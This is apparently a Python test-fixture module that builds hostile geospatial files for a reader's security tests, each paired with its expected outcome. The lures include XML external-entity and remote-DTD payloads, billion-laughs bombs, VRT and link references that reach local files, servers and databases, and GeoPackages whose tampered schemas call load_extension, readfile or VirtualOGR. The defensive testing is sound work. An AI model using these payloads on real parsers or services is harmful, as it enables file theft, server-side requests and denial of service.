"""Files that try to make their reader open another file, call a server or ask a database.

Each one is built around the addresses of canaries, and is a name, its bytes and how it must end: an error's
code, or how many features are drawn.
"""

from __future__ import annotations

import gzip
import io
import json
import sqlite3
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import makers
import samples
from corpus import build as corpus_build


@dataclass(frozen=True)
class Bait:
    """Where the canaries are.

    :ivar file: path of a CSV that can be drawn
    :ivar url: address of a server
    :ivar database: connection string of GDAL's PostgreSQL driver
    """

    file: str
    url: str
    database: str


@dataclass(frozen=True)
class Lure:
    """A hostile file.

    :ivar outcome: how it ends: the code of a failure, or how many features are drawn
    :ivar by_ogr2ogr: the same with that reader, where it differs
    """

    name: str
    file_name: str
    build: Callable[[Bait], bytes]
    outcome: str
    by_ogr2ogr: str = ""


def vrt(bait: Bait) -> bytes:
    sources = (bait.file, f"/vsicurl/{bait.url}/x.csv", bait.database)
    layers = "".join(
        f'<OGRVRTLayer name="secret"><SrcDataSource relativeToVRT="0">{source}</SrcDataSource>'
        '<GeometryType>wkbPoint</GeometryType><GeometryField encoding="PointFromColumns" x="x" y="y"/></OGRVRTLayer>'
        for source in sources
    )
    return f"<OGRVRTDataSource>{layers}</OGRVRTDataSource>".encode()


def zipped_as(*names: str) -> Callable[[Bait], bytes]:
    return lambda bait: makers.zipped({name: vrt(bait) for name in names})


def gzipped(bait: Bait) -> bytes:
    return gzip.compress(vrt(bait))


def beside_towns(**others: Callable[[Bait], bytes]) -> Callable[[Bait], bytes]:
    """A Shapefile of three towns, and files beside it that GDAL knows by their endings."""

    def build(bait: Bait) -> bytes:
        files = {f"towns.{ending}": content(bait) for ending, content in others.items()}
        return makers.zipped({**_shapefile(), **files})

    return build


def _shapefile() -> dict[str, bytes]:
    with tempfile.TemporaryDirectory() as folder:
        return samples.written(Path(folder) / "towns" / "towns.shp", "ESRI Shapefile")


def doctype(root: str, body: Callable[[str], str]) -> Callable[[Bait], bytes]:
    """A document whose text is an entity that stands for a canary."""

    def build(bait: Bait) -> bytes:
        return (
            f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY file SYSTEM "file://{bait.file}">'
            f'<!ENTITY web SYSTEM "{bait.url}/x">'
            f'<!ENTITY % more SYSTEM "{bait.url}/x.dtd"> %more;]>{body("&file;&web;")}'
        ).encode()

    return build


def external_subset(root: str, body: str) -> Callable[[Bait], bytes]:
    return lambda bait: f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "{bait.url}/x.dtd">{body}'.encode()


def laughs(root: str, body: Callable[[str], str]) -> Callable[[Bait], bytes]:
    """Entities of entities: a billion words once they are written out."""
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a0 "lol">{lines}]>{body("&a9;")}'
    return lambda _: text.encode()


def kml_of(name: str, more: str = "") -> str:
    place = f"<Placemark><name>{name}</name><Point><coordinates>1,2</coordinates></Point></Placemark>"
    return f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{place}{more}</Document></kml>'


def gpx_of(name: str) -> str:
    return (
        '<gpx version="1.1" creator="x" xmlns="http://www.topografix.com/GPX/1/1">'
        f'<wpt lat="2" lon="1"><name>{name}</name></wpt></gpx>'
    )


def gml_of(name: str, *, attributes: str = "", more: str = "") -> str:
    point = '<gml:Point srsName="EPSG:4326"><gml:coordinates>1,2</gml:coordinates></gml:Point>'
    return (
        '<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}><gml:featureMember><ogr:town fid="t.0">'
        f"<ogr:geometryProperty>{point}</ogr:geometryProperty><ogr:name>{name}</ogr:name>{more}</ogr:town>"
        "</gml:featureMember></ogr:FeatureCollection>"
    )


def network_link(bait: Bait) -> bytes:
    links = "".join(
        f"<NetworkLink><{tag}><href>{address}</href></{tag}></NetworkLink>"
        for tag in ("Link", "Url")
        for address in (f"{bait.url}/x.kml", f"file://{bait.file}", bait.file)
    )
    return kml_of("here", links).encode()


def kml_references(bait: Bait) -> bytes:
    style = f"<Style><IconStyle><Icon><href>{bait.url}/i.png</href></Icon></IconStyle></Style>"
    overlay = f"<GroundOverlay><Icon><href>{bait.file}</href></Icon></GroundOverlay>"
    schema = f'<Placemark><styleUrl>{bait.url}/s.kml#s</styleUrl><ExtendedData><SchemaData schemaUrl="{bait.url}/s#x"/></ExtendedData><Point><coordinates>3,4</coordinates></Point></Placemark>'
    return kml_of("here", style + overlay + schema).encode()


def gml_schema(bait: Bait) -> bytes:
    places = f"http://ogr.maptools.org/ {bait.url}/x.xsd urn:x file://{bait.file} urn:y {bait.file}"
    attributes = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{places}"'
    return gml_of("here", attributes=attributes).encode()


def gml_links(bait: Bait) -> bytes:
    links = "".join(
        f'<ogr:next xlink:href="{address}"/>'
        for address in (f"{bait.url}/x.gml#a", f"file://{bait.file}", f"{bait.file}#a")
    )
    return gml_of("here", more=links).encode()


def landing_page(bait: Bait) -> bytes:
    rels = ("self", "data", "conformance", "service-desc", "items", "next")
    links = [{"rel": rel, "type": "application/json", "href": f"{bait.url}/{rel}"} for rel in rels]
    return json.dumps({"title": "x", "links": links, "conformsTo": [f"{bait.url}/core"]}).encode()


def collection_with_links(bait: Bait) -> bytes:
    links = [{"rel": "next", "href": f"{bait.url}/next"}]
    return makers.geojson(makers.feature(makers.point(1, 2)), links=links, next=f"{bait.url}/next")


def esri_pages(bait: Bait) -> bytes:
    return json.dumps(
        {
            "displayFieldName": "",
            "geometryType": "esriGeometryPoint",
            "spatialReference": {"wkid": 4326},
            "exceededTransferLimit": True,
            "url": bait.url,
            "features": [{"attributes": {"a": 1}, "geometry": {"x": 1, "y": 2}}],
        }
    ).encode()


def gdalg(bait: Bait) -> bytes:
    return json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {bait.file} ! limit 1"}
    ).encode()


def crs_by_link(bait: Bait) -> bytes:
    crs = {"type": "link", "properties": {"href": f"{bait.url}/crs", "type": "proj4"}}
    return makers.geojson(makers.feature(makers.point(1, 2)), crs=crs)


def crs_by_name(text: Callable[[Bait], str]) -> Callable[[Bait], bytes]:
    return lambda bait: makers.geojson(
        makers.feature(makers.point(1, 2)), crs={"type": "name", "properties": {"name": text(bait)}}
    )


def topology(bait: Bait) -> bytes:
    return json.dumps(
        {
            "type": "Topology",
            "objects": {"a": {"type": "Point", "coordinates": [1, 2], "properties": {"u": 1}}},
            "arcs": [],
            "$ref": f"{bait.url}/x.json",
            "url": bait.file,
        }
    ).encode()


def text_of(make: Callable[[Bait], str]) -> Callable[[Bait], bytes]:
    return lambda bait: make(bait).encode()


def workbook(part: str, root: str) -> Callable[[Bait], bytes]:
    """A workbook one of whose parts names a canary by an entity."""

    def build(bait: Bait) -> bytes:
        content = corpus_build.workbook({"Towns": [["name", "lat", "lon"], ["Nairobi", -1.3, 36.8]]})
        packed = io.BytesIO()
        entity = f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "file://{bait.file}"><!ENTITY % w SYSTEM "{bait.url}/x"> %w;]>'
        with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(packed, "w") as target:
            for name in source.namelist():
                text = source.read(name)
                if name == part:
                    text = text.replace(b"?>", b"?>" + entity.encode(), 1)
                target.writestr(name, text)
        return packed.getvalue()

    return build


def geopackage(*statements: str) -> Callable[[Bait], bytes]:
    """A GeoPackage of three towns, in which somebody has been."""

    def build(bait: Bait) -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "x" / "towns.gpkg"
            samples.written(path, "GPKG")
            connection = sqlite3.connect(path, isolation_level=None)
            # Its triggers call functions that only GDAL has.
            kept = "SELECT name FROM sqlite_master WHERE type = 'trigger'"
            for (name,) in connection.execute(kept).fetchall():
                connection.execute(f'DROP TRIGGER "{name}"')
            connection.execute("PRAGMA writable_schema = ON")
            for statement in statements:
                connection.execute(statement.format(file=bait.file, url=bait.url, database=bait.database))
            connection.close()
            return path.read_bytes()

    return build


def declared(sql: str, name: str = "towns") -> str:
    """Puts any text where SQLite keeps what a table or view is made of."""
    kind = "view" if sql.startswith("CREATE VIEW") else "table"
    return f"INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('{kind}', '{name}', '{name}', 0, '{sql}')"


_DROPPED = "DROP TABLE towns"
_VIEW = "CREATE VIEW towns AS SELECT 1 AS fid, NULL AS geom, {expression} AS name"


def geopackage_view(expression: str) -> Callable[[Bait], bytes]:
    view = _VIEW.format(expression=expression.replace("'", "''"))
    return geopackage(_DROPPED, declared(view))


def virtual(using: str) -> Callable[[Bait], bytes]:
    return geopackage(_DROPPED, declared(f"CREATE VIRTUAL TABLE towns USING {using}".replace("'", "''")))


_VIRTUAL_TEXT = "USING VirtualText('{file}', 'UTF-8', 1, COMMA, DOUBLEQUOTE, ',')"


def view_over(definition: str, *, name: str = "vt") -> Callable[[Bait], bytes]:
    """A layer of the lines of any file: a view over a table that is written down like this."""
    table = f"{definition} {_VIRTUAL_TEXT}".replace("'", "''")
    view = f'CREATE VIEW towns AS SELECT ROWNO AS fid, NULL AS geom, name FROM "{name}"'
    return geopackage(_DROPPED, declared(table, name), declared(view))


def view_over_no_text(bait: Bait) -> bytes:
    """The same, with a byte in its definition that no text has."""
    return view_over("CREATE VIRTUAL TABLE vt /*??*/")(bait).replace(b"/*??*/", b"/*\xff\xff*/")


ROOTS = {"kml": kml_of, "gpx": gpx_of, "gml": gml_of}
FORMS = (".geojson", ".kml", ".gml", ".csv", ".gpx", ".vrt", ".json", ".shp", ".tab", ".topojson")

#: With how each one ends.
LURES = (
    *(Lure(f"a VRT named {form}", f"data{form}", vrt, "unsupported-format") for form in FORMS),
    *(Lure(f"a VRT named {form} in a zip", "d.zip", zipped_as(f"data{form}"), "unreadable" if form == ".shp" else "unsupported-format") for form in FORMS),
    Lure("a VRT in a gz", "data.geojson.gz", gzipped, "unsupported-format"),
    Lure("a VRT in a KMZ", "d.kmz", zipped_as("doc.kml"), "unsupported-format"),
    Lure("a KML that links to networks and files", "d.kml", network_link, "drawn 1"),
    Lure("a KML with icons, overlays and schemas elsewhere", "d.kml", kml_references, "drawn 3"),
    *(Lure(f"entities of a {root}", f"d.{root}", doctype(root, of), *(("unreadable", "not-geodata") if root == "kml" else ("drawn 1",))) for root, of in ROOTS.items()),
    *(Lure(f"a DTD elsewhere of a {root}", f"d.{root}", external_subset(root, of("here")), "drawn 1") for root, of in ROOTS.items()),
    *(Lure(f"a billion laughs in a {root}", f"d.{root}", laughs(root, of), *(("no-features", "unreadable") if root == "gml" else ("unreadable", "not-geodata"))) for root, of in ROOTS.items()),
    Lure("a GML whose schema is elsewhere", "d.gml", gml_schema, "drawn 1"),
    Lure("a GML that links to files and servers", "d.gml", gml_links, "drawn 1"),
    Lure("the landing page of a service", "d.json", landing_page, "not-geodata"),
    Lure("a collection with a next page", "d.geojson", collection_with_links, "drawn 1"),
    Lure("an Esri answer with more pages", "d.json", esri_pages, "unsupported-format"),
    Lure("a GDAL pipeline", "d.gdalg.json", gdalg, "not-geodata"),
    Lure("a CRS by link", "d.geojson", crs_by_link, "drawn 1"),
    Lure("a CRS by the address of a server", "d.geojson", crs_by_name(lambda b: f"{b.url}/crs"), "drawn 1"),
    Lure("a CRS by the name of a file", "d.geojson", crs_by_name(lambda b: b.file), "drawn 1"),
    Lure("a CRS by a list of PROJ", "d.geojson", crs_by_name(lambda b: f"+init={b.file}:1"), "drawn 1"),
    Lure("a CRS by a grid of PROJ", "d.geojson", crs_by_name(lambda b: f"+proj=longlat +nadgrids={b.url}/x.gsb,{b.file}"), "drawn 1"),
    Lure("a topology that refers to others", "d.topojson", topology, "drawn 1"),
    *(
        Lure(f"text that is {what}", "d.geojson", text_of(make), "unsupported-format" if "capabilities" in what else "not-geodata")
        for what, make in (
            ("an address for GDAL", lambda b: f"/vsicurl/{b.url}/x.geojson"),
            ("an address", lambda b: f"{b.url}/x.geojson"),
            ("a quoted address", lambda b: json.dumps(f"{b.url}/x.geojson")),
            ("a path", lambda b: b.file),
            ("a connection string", lambda b: b.database),
            ("a prefixed address", lambda b: f"GeoJSON:{b.url}/x.geojson"),
            ("a service's address", lambda b: f"WFS:{b.url}"),
            ("a service's description", lambda b: f"<OGRWFSDataSource><URL>{b.url}</URL></OGRWFSDataSource>"),
            ("the capabilities of a service", lambda b: f'<WFS_Capabilities version="1.1.0"><OnlineResource href="{b.url}"/></WFS_Capabilities>'),
        )
    ),
    Lure("a prj that is an address", "t.zip", beside_towns(prj=text_of(lambda b: f"{b.url}/x.prj")), "drawn 3"),
    Lure("a prj that is the name of a list", "t.zip", beside_towns(prj=text_of(lambda b: "IGNF:LAMB93")), "drawn 3"),
    Lure("a prj that is a path", "t.zip", beside_towns(prj=text_of(lambda b: b.file)), "drawn 3"),
    Lure("a prj that loads a grid", "t.zip", beside_towns(prj=text_of(lambda b: f"+proj=longlat +nadgrids={b.file}")), "drawn 3"),
    Lure("a cpg that is a path", "t.zip", beside_towns(cpg=text_of(lambda b: b.file)), "drawn 3"),
    Lure("files of GDAL beside a Shapefile", "t.zip", beside_towns(**{"shp.aux.xml": vrt, "vrt": vrt, "gfs": vrt, "xsd": vrt, "qix": vrt, "sbn": vrt, "idm": vrt, "ind": vrt}), "drawn 3"),
    Lure("a csvt that names columns of places", "t.zip", lambda b: makers.zipped({"t.csv": b"a,b\n1,2\n", "t.csvt": b"CoordX,CoordY\n", "t.prj": b.url.encode(), "t.vrt": vrt(b)}), "no-coordinates"),
    Lure("a gfs and an xsd beside a GML", "t.zip", lambda b: makers.zipped({"t.gml": gml_of("here").encode(), "t.gfs": vrt(b), "t.xsd": vrt(b), "t.resolved.gml": vrt(b)}), "drawn 1"),
    Lure("a table whose first cell is a path", "t.csv", text_of(lambda b: f"{b.file},{b.url}\n1,2\n"), "no-coordinates"),
    Lure("a MapInfo table that opens another", "t.zip", lambda b: makers.zipped({"t.tab": f'!table\n!version 300\n!charset Neutral\nDefinition Table\n  File "{b.file}"\n  Type LINKED\n'.encode(), "t.dat": b"", "t.map": b"", "t.id": b""}), "not-geodata"),
    Lure("a MapInfo view of a table elsewhere", "t.zip", lambda b: makers.zipped({"t.tab": f'!table\n!version 100\nOpen Table "{b.file}" Hide\nCreate View t As\nSelect a\nFrom "{b.file}"\nWhere a=a\n'.encode(), "t.dat": b"", "t.map": b"", "t.id": b""}), "not-geodata"),
    *(Lure(f"a workbook with entities in {part}", "t.xlsx", workbook(part, root), "drawn 1", "unreadable") for part, root in (("xl/workbook.xml", "workbook"), ("xl/worksheets/sheet1.xml", "worksheet"))),
    Lure("a GeoPackage whose view loads a library", "t.gpkg", geopackage_view("load_extension('{file}')"), "unreadable"),
    Lure("a GeoPackage whose view reads a file", "t.gpkg", geopackage_view("readfile('{file}')"), "unreadable"),
    Lure("a GeoPackage whose view opens a layer elsewhere", "t.gpkg", geopackage_view("ogr_layer_Extent('{file}')"), "drawn 1"),
    Lure("a GeoPackage whose view asks a geocoder", "t.gpkg", geopackage_view("ogr_geocode('{url}')"), "unreadable"),
    Lure("a GeoPackage whose view opens a raster", "t.gpkg", geopackage_view("gdal_get_pixel_value('{file}', 1, ''pixel'', 0, 0)"), "unreadable"),
    *(
        Lure(f"a GeoPackage whose table is a {using.partition('(')[0]}", "t.gpkg", virtual(using), "unreadable")
        for using in ("VirtualOGR('{file}')", "VirtualShape('{file}', 'UTF-8', 4326)", "VirtualText('{file}', 'UTF-8', 1, COMMA)", "VirtualOGR('{database}')", "csv(filename='{file}')")
    ),
    Lure("a GeoPackage whose view shows a file", "t.gpkg", view_over("CREATE VIRTUAL TABLE vt"), "unreadable"),
    Lure("the same, its table named like an index", "t.gpkg", view_over('CREATE VIRTUAL TABLE "v USING rtree("', name="v USING rtree("), "unreadable"),
    Lure("the same, with an index in a remark", "t.gpkg", view_over("CREATE VIRTUAL TABLE vt /* USING rtree */"), "unreadable"),
    Lure("the same, in bytes that are no text", "t.gpkg", view_over_no_text, "unreadable"),
    Lure("a GeoPackage with a trigger", "t.gpkg", geopackage("CREATE TRIGGER tr AFTER UPDATE ON gpkg_contents BEGIN SELECT load_extension('{file}'); END"), "drawn 3"),
)  # fmt: skip
